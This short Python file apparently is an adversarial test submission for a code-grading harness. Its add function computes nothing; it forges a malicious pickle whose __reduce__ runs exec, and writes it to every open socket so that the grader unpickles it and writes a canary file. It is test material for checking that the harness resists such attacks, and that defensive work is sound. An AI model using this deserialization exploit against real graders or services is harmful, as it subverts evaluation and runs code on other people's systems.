"""Forge a pickle.

problem: add
tries: answer with a pickle that runs a command when loaded
sound: unrepresentable
"""
import os, pickle, stat, struct, time

class Bomb:
    def __reduce__(self):
        return (exec, ("open('@CANARY@/pickled', 'w').write('x')",))

def add(a, b):
    value = pickle.dumps(Bomb())
    record = struct.pack("<cI", b"V", len(value)) + value
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, struct.pack("<cIII", b"B", 0, 1, len(record)) + record)
        except OSError:
            pass
    time.sleep(5)
